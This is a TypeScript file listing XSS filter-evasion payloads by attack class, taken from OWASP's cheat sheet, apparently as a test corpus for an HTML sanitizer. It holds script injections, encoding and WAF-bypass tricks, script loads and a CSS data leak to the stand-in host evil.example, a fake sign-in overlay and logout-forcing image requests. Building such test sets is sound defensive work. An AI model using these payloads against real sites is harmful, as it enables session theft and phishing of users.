/** Elements, styles and addresses that run or load something: the second half of OWASP's XSS Filter Evasion Cheat Sheet. */
import type { AttackClass } from './attack-class.ts';

export const ELEMENT_ATTACKS: readonly AttackClass[] = [
  {
    name: 'INPUT image',
    texts: ['<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">', '<input autofocus onfocus=alert(1)>'],
  },
  {
    name: 'BODY image',
    texts: ['<BODY BACKGROUND="javascript:alert(1)">', '<body background="https://evil.example/p.gif">'],
  },
  {
    name: 'IMG Dynsrc and lowsrc',
    texts: ['<IMG DYNSRC="javascript:alert(1)">', '<IMG LOWSRC="https://evil.example/p.gif">'],
  },
  {
    name: 'List-style-image',
    texts: ['<STYLE>li {list-style-image: url("https://evil.example/p.gif");}</STYLE><UL><LI>One</LI></UL>'],
  },
  {
    name: 'VBscript in an image',
    texts: ['<IMG SRC=\'vbscript:msgbox("XSS")\'>', '<a href="vbscript:msgbox(1)">Read more</a>'],
  },
  {
    name: 'SVG object tag',
    texts: [
      '<svg/onload=alert(1)>',
      '<svg><script>alert(1)</script></svg>',
      '<svg><a xlink:href="javascript:alert(1)"><text x="9" y="9">Read more</text></a></svg>',
      '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
      '<svg><set attributeName="href" to="javascript:alert(1)"/><a id="x"><text>Read</text></a></svg>',
      '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pjwvc3ZnPg==#x"/></svg>',
      '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
      '<svg><image href="https://evil.example/p.gif" onerror="alert(1)"/></svg>',
    ],
  },
  {
    name: 'ECMAScript 6',
    texts: ['<img src=x onerror="Set.constructor`alert\\x28 1\\x29```">', '<img src=x onerror="alert`1`">'],
  },
  {
    name: 'BODY tag',
    texts: [
      '<BODY ONLOAD=alert(1)>',
      '<body onhashchange=alert(1) onpageshow=alert(1)>',
      '<html onpointermove=alert(1)>',
    ],
  },
  {
    name: 'Event handlers',
    texts: [
      '<p onclick=alert(1) onpointerdown=alert(1) onmousemove=alert(1)>Press here</p>',
      '<p tabindex=1 onfocus=alert(1) onblur=alert(1) autofocus>Focus</p>',
      '<details open ontoggle=alert(1)><summary>Details</summary>More</details>',
      '<video><source onerror="alert(1)"></video>',
      '<audio src=x onerror=alert(1)></audio>',
      '<video poster="https://evil.example/p.gif" onloadstart=alert(1) src=x></video>',
      '<marquee onstart=alert(1) onfinish=alert(1) loop=1 width=0>News</marquee>',
      '<div onanimationstart=alert(1) style="animation:x 1s" ontransitionend=alert(1)>Moving</div>',
      '<div contenteditable onbeforeinput=alert(1) oninput=alert(1) onpaste=alert(1)>Type here</div>',
      '<button popovertarget=x>Open</button><div popover id=x onbeforetoggle=alert(1)>Popover</div>',
      '<div oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">Text</div>',
      '<p ONCLICK  =  "alert(1)" OnKeyDown=\'alert(1)\'>Capital letters</p>',
      '<p data-x="1" onwheel=alert(1) onscroll=alert(1) oncopy=alert(1) oncontextmenu=alert(1)>Text</p>',
      '<form onsubmit=alert(1) onreset=alert(1)><button>Send</button></form>',
      '<select onchange=alert(1)><option>One</select>',
      '<dialog open onclose=alert(1) oncancel=alert(1)>Text</dialog>',
      '<p onunknownevent=alert(1) onscrollsnapchange=alert(1) oncommand=alert(1)>Events of later browsers</p>',
    ],
  },
  { name: 'BGSOUND', texts: ['<BGSOUND SRC="javascript:alert(1);">'] },
  { name: '& JavaScript includes', texts: ['<BR SIZE="&{alert(1)}">', '<p title="&{alert(1)};">Text</p>'] },
  {
    name: 'STYLE sheet',
    texts: [
      '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
      '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
      "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
      '<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">',
      '<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>',
      '<style>body{display:none}h1::before{content:"Your account is closed"}</style>',
      '<style>a[href^="#/msg1"]{background:url(https://evil.example/leak?1)}</style>',
    ],
  },
  {
    name: 'STYLE tags that break up JavaScript for XSS',
    texts: [
      "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
      '<STYLE>.XSS{background-image:url("javascript:alert(1)");}</STYLE><A CLASS=XSS></A>',
    ],
  },
  {
    name: 'STYLE attribute that breaks up an expression',
    texts: [
      '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
      'exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert(1))\'>',
    ],
  },
  {
    name: 'Anonymous HTML with STYLE attribute',
    texts: [
      '<XSS STYLE="xss:expression(alert(1))">Text</XSS>',
      '<xss onclick=alert(1) tabindex=1>Text</xss>',
    ],
  },
  { name: 'Local htc file', texts: ['<XSS STYLE="behavior: url(/rbsmbl/xss.htc);">Text</XSS>'] },
  {
    name: 'US-ASCII encoding',
    texts: ['\u00bcscript\u00bealert(1)\u00bc/script\u00be', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  },
  {
    name: 'META',
    texts: [
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
      '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert(1);">',
      '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">',
      '<meta name="referrer" content="unsafe-url"><img src="https://evil.example/p.gif">',
    ],
  },
  {
    name: 'IFRAME',
    texts: [
      '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
      '<IFRAME SRC=# onmouseover="alert(1)" onload="alert(1)"></IFRAME>',
      '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
      '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
      '<fencedframe></fencedframe><portal src="https://evil.example/"></portal>',
    ],
  },
  { name: 'FRAME', texts: ['<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>'] },
  {
    name: 'TABLE',
    texts: [
      '<TABLE BACKGROUND="javascript:alert(1)">',
      '<TABLE><TD BACKGROUND="https://evil.example/p.gif">',
    ],
  },
  {
    name: 'DIV',
    texts: [
      '<DIV STYLE="background-image: url(javascript:alert(1))">Text</DIV>',
      String.raw`<DIV STYLE="background-image:\0075\0072\006C\0028'https://evil.example/p.gif'\0029">Text</DIV>`,
      '<DIV STYLE="background-image: url(\u0001javascript:alert(1))">Text</DIV>',
      '<DIV STYLE="width: expression(alert(1));">Text</DIV>',
      '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>',
    ],
  },
  {
    name: 'Downlevel-hidden block',
    texts: [
      '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
      '<![if !mso]><img src=x onerror=alert(1)><![endif]>',
    ],
  },
  {
    name: 'BASE tag',
    texts: [
      '<BASE HREF="javascript:alert(1);//">',
      '<base href="https://evil.example/"><a href="coverage/">Read more</a>',
    ],
  },
  {
    name: 'OBJECT tag',
    texts: [
      '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
      '<object data="javascript:alert(1)"></object>',
      '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
      '<object><param name="movie" value="javascript:alert(1)"></object>',
    ],
  },
  {
    name: 'EMBED SVG that contains an XSS vector',
    texts: [
      '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
      '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/%3E">',
    ],
  },
  {
    name: 'XML data island with CDATA obfuscation',
    texts: [
      '<XML ID="xss"><I><B>&lt;IMG SRC="javas<!-- -->cript:alert(1)"&gt;</B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
      '<![CDATA[<img src=x onerror=alert(1)>]]>',
      '<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><p>Text</p>',
    ],
  },
  {
    name: 'HTML+TIME in XML',
    texts: [
      '<HTML xmlns:xss><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS&lt;SCRIPT DEFER&gt;alert(1)&lt;/SCRIPT&gt;"></HTML>',
    ],
  },
  {
    name: 'Assuming you can only fit in a few characters',
    texts: [
      '<SCRIPT SRC="https://evil.example/xss.jpg"></SCRIPT>',
      '<script/src=//e.vg>',
      '<a href=//e.vg>x',
    ],
  },
  {
    name: 'SSI and PHP',
    texts: [
      '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT>alert(1)</SCRIPT>\'"-->',
      "<? echo('<SCR)';echo('IPT>alert(1)</SCRIPT>'); ?>",
    ],
  },
  {
    name: 'IMG embedded commands',
    texts: [
      '<IMG SRC="/rbsmbl/x-services/hsa/enroll?umi=1&groupNumber=2">',
      '<IMG SRC="https://evil.example/redirect?to=/logout/">',
      '<img srcset="https://evil.example/p.gif 1x, /logout/ 2x" sizes="100vw">',
    ],
  },
  {
    name: 'Cookie manipulation',
    texts: ['<META HTTP-EQUIV="Set-Cookie" Content="authVersion=MER_SIMULATION_V1">'],
  },
  {
    name: 'XSS using HTML quote encapsulation',
    texts: [
      '<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>',
      '<SCRIPT =">" SRC="https://evil.example/xss.js"></SCRIPT>',
      '<SCRIPT a=">" \'\' SRC="https://evil.example/xss.js"></SCRIPT>',
      '<SCRIPT "a=\'>\'" SRC="https://evil.example/xss.js"></SCRIPT>',
      '<SCRIPT a=`>` SRC="https://evil.example/xss.js"></SCRIPT>',
      '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/xss.js"></SCRIPT>',
      '"><img src=x onerror=alert(1)>',
      "' autofocus tabindex=1 onfocus='alert(1)",
    ],
  },
  {
    name: 'URL string evasion',
    texts: [
      '<A HREF="http://2130706433/">Read more</A>',
      '<A HREF="http://0x7f.0x00.0x00.0x01/">Read more</A>',
      '<A HREF="h\ntt\tp://evil.example/">Read more</A>',
      '<A HREF="//evil.example/">Read more</A>',
      '<A HREF="/\\evil.example/">Read more</A>',
      '<A HREF="https:evil.example">Read more</A>',
      '<A HREF="https://mincr.localhost@evil.example/">Read more</A>',
      '<A HREF="https://evil.example/#mincr.localhost">Read more</A>',
      '<A HREF="http://%77%77%77%2e%65%76%69%6c%2e%65%78%61%6d%70%6c%65">Read more</A>',
      '<A HREF="javascript:document.location=\'https://evil.example/\'">Read more</A>',
      '<A HREF="JaVaScRiPt&colon;alert&lpar;1&rpar;">Read more</A>',
      '<A HREF="javascript://%0aalert(1)">Read more</A>',
      '<A HREF="data:text/html;charset=utf-8,<script>alert(1)</script>">Read more</A>',
      '<A HREF="blob:https://evil.example/1">Read more</A>',
      '<A HREF="view-source:javascript:alert(1)">Read more</A>',
      '<A HREF="filesystem:https://evil.example/temporary/x.html">Read more</A>',
    ],
  },
  {
    name: 'Assisting XSS with HTTP parameter pollution',
    texts: [
      '<a href="/search/?q=a&q=javascript:alert(1)">Read more</a>',
      '<a href="#/messageCenter?id=1&id=<script>alert(1)</script>">Read more</a>',
    ],
  },
  {
    name: 'Character escape sequences',
    texts: [
      '%3Cscript%3Ealert(1)%3C/script%3E',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
      '&#60img src=x onerror=alert(1)&#62',
      String.raw`\74script\76alert(1)\74/script\76`,
    ],
  },
  {
    name: 'Methods to bypass web application firewalls',
    texts: [
      '<Img src = x onerror = "javascript: window.onerror = alert; throw 1">',
      '<Video> <source onerror = "javascript: alert(1)">',
      '<img src=x onerror=(alert)(1)>',
      '<img src=x onerror=window["al"+"ert"](1)>',
      '<img src=x onerror=top[/al/.source+/ert/.source](1)>',
      "<img src=x onerror=\"setTimeout('ale'+'rt(1)')\">",
      '<img src=x onerror="[1].find(alert)">',
      '<img src=x onerror=eval(atob("YWxlcnQoMSk="))>',
      '<iframe/src=javascript:[document.domain].map(alert)>',
    ],
  },
];
